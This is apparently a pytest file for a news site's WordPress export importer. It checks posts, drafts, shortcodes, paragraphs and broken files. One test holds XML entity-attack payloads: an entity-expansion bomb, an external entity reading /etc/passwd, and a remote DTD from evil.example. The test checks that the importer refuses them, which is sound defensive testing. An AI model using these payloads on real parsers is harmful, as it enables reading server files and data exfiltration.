"""WordPress exports: posts, pages, authors, terms, media, markers, shortcodes, drafts and broken files."""

from __future__ import annotations

from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pytest

from broadsheet.library.importing.items import Item, LeftOut, Named, Picture, Refusal
from broadsheet.library.importing.shortcodes import add_paragraphs, html_from_wordpress
from tests.library.importing.reading import SHARED, blocks, body_text, read, read_text, refusals_of

EXPORT = Path(__file__).parent / "exports" / "site.xml"


@pytest.fixture(scope="module")
def items() -> dict[str, Item]:
    return {one.headline: one for one in read(EXPORT) if isinstance(one, Item)}


def test_posts_and_pages_are_told_apart_and_drafts_stay_drafts(items: dict[str, Item]) -> None:
    assert {name: (item.is_page, item.is_draft) for name, item in items.items()} == {
        "Who Dredges the Harbour?": (False, False),
        "Tides in blocks": (False, False),
        "About": (True, False),
        "Not yet": (False, True),
        "For us": (False, True),
        "Locked": (False, True),
    }
    assert items["For us"].warnings == ("it was private and is now a draft",)
    assert items["Locked"].warnings == ("it had a password and is now a draft",)


def test_what_is_refused_is_named_with_its_line_and_what_is_no_article_is_counted() -> None:
    reasons = {one.line: one.reason for one in read(EXPORT) if isinstance(one, Refusal)}
    assert len(reasons) == 2
    assert any("“Thrown away”: it lay in the bin" in reason for reason in reasons.values())
    assert any("no headline" in reason for reason in reasons.values())
    assert {one.kind: one.count for one in read(EXPORT) if isinstance(one, LeftOut)} == {
        "comment": 1, "attachment": 1, "guest-author": 1, "nav menu item": 1, "wp block": 1
    }  # fmt: skip


def test_a_post_keeps_date_authors_topics_summary_and_addresses(items: dict[str, Item]) -> None:
    item = items["Who Dredges the Harbour?"]
    assert item.published_at == datetime(2019, 5, 3, 6, 30, tzinfo=UTC)
    assert item.authors == (Named("Lakes desk"), Named("Harbour pilot"))
    assert item.topics == (Named("Ports", "ports"), Named("Mud & silt", "mud"))
    assert (item.dek, item.slug) == ("A question of mud.", "who-dredges")
    assert item.old_addresses == ("/2019/05/who-dredges/", "/?p=11")
    assert item.lead_photo == Picture(
        "https://harbour.example/wp-content/uploads/2019/05/dredger.jpg", "The dredger.", alt="A dredger"
    )
    assert items["Tides in blocks"].authors == (Named("Oceans desk"),)


def test_a_classic_post_becomes_blocks(items: dict[str, Item]) -> None:
    item = items["Who Dredges the Harbour?"]
    found = blocks(item)
    assert [block["type"] for block in found] == [
        "text",
        "figure",
        "text",
        "teaser_end",
        "figure",
        "text",
        "embed",
        "text",
        "footnote",
    ]
    assert found[1]["value"] | {"photo": None} == {
        "photo": None,
        "src": "https://harbour.example/wp-content/uploads/2019/05/dredger-300x200.jpg",
        "caption": "The dredger at work.",
        "credit": "Photo: Harbour",
        "alt": "A dredger",
    }
    text = body_text(item)
    assert "<p>Somebody has to pay for that.<br/>It is not the ships.</p>" in text
    assert 'He said [sic] it was "free" and [gallery] is a word. [^1]' in text
    assert "<p>This stays.</p>" in text
    assert "subscribe" not in text
    assert found[-1]["value"] == {"key": "1", "text": "Port act of 1911."}
    assert item.warnings == (
        "a gallery names pictures that are not in the export",
        "the shortcode [members_only] is not known and was left out",
        "the shortcode [subscribe_form] is not known and was left out",
    )


def test_a_post_in_blocks_keeps_tables_quotes_notes_and_reusable_blocks(items: dict[str, Item]) -> None:
    found = blocks(items["Tides in blocks"])
    assert [block["type"] for block in found] == ["text", "teaser_end", "text", "table", "text", "quote", "footnote"]
    assert found[0]["value"] == "<p>Tides turn twice a day.[^1]</p>"
    assert found[4]["value"] == "<p>Said in many posts.</p>"
    assert found[5]["value"] == {"text": "The sea keeps time.", "attribution": "A pilot"}
    assert found[6]["value"]["text"] == "Tide tables, <i>2019</i>."


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("a\n\nb", "<p>a</p>\n<p>b</p>"),
        ("a\nb", "<p>a<br>\nb</p>"),
        ("a<ul><li>b</li></ul>c", "<p>a</p>\n<ul>\n<li>b</li>\n</ul>\n<p>c</p>"),
        ("<pre>a\n\nb</pre>", "<pre>a\n\nb</pre>"),
        ("", ""),
    ],
)
def test_paragraphs_of_classic_posts_are_marked(content: str, expected: str) -> None:
    assert add_paragraphs(content) == expected


@pytest.mark.parametrize("words", ["[sic]", "[1]", "[Laughter]", "an [emphasis added] here", "[…]", "a[b]c", "[/]"])
def test_words_in_brackets_are_no_shortcodes(words: str) -> None:
    html, warnings = html_from_wordpress(words, {}, {})
    assert words in html
    assert warnings == []


def spoil(change: Callable[[bytes], bytes]) -> bytes:
    return change(EXPORT.read_bytes())


def test_a_file_that_breaks_off_gives_what_stands_before_and_says_where(tmp_path: Path) -> None:
    content = spoil(lambda xml: xml[: xml.index(b"Said in many posts")])
    found = read_text(tmp_path, "x.xml", content)
    assert len([one for one in found if isinstance(one, Item)]) == 6
    (cut,) = [one for one in found if isinstance(one, Refusal) and "broken" in one.reason]
    assert cut.line is not None


def test_a_fault_in_one_post_refuses_that_post_only(tmp_path: Path) -> None:
    content = spoil(lambda xml: xml.replace(b"Draft words.", b"Draft \x0b words."))
    found = read_text(tmp_path, "x.xml", content)
    assert sorted(one.headline for one in found if isinstance(one, Item)) == [
        "About", "For us", "Locked", "Tides in blocks", "Who Dredges the Harbour?"
    ]  # fmt: skip
    (broken,) = [one for one in found if isinstance(one, Refusal) and "broken" in one.reason]
    assert "“Not yet”" in broken.reason


@pytest.mark.parametrize(
    "declaration",
    [
        b'<!DOCTYPE rss [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE rss [ <!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p; ]>',
    ],
)
def test_entities_are_never_expanded(declaration: bytes, tmp_path: Path) -> None:
    content = spoil(lambda xml: xml.replace(b"<rss", declaration + b"<rss", 1).replace(b"Draft words", b"&b;&x;"))
    (refusal,) = read_text(tmp_path, "x.xml", content)
    assert isinstance(refusal, Refusal)
    assert "entities" in refusal.reason


@pytest.mark.skipif(not (SHARED / "wordpress-wxr").exists(), reason="../shared/data/wordpress-wxr is not there")
def test_exports_of_wordpress_itself_are_read_good_and_broken() -> None:
    folder = SHARED / "wordpress-wxr"
    found = {path.name: read(path) for path in sorted(folder.glob("*/*.xml"))}
    assert len([one for one in found["themeunittestdata.wordpress.xml"] if isinstance(one, Item)]) >= 70
    assert len([one for one in found["64-block-test-data.xml"] if isinstance(one, Item)]) == 62
    for name in ("malformed.xml", "malformed-simple.xml", "crazy-cdata.xml"):
        assert [one for one in found[name] if isinstance(one, Refusal)], name
    assert refusals_of(folder / "importer-tests" / "small-export.xml") == []
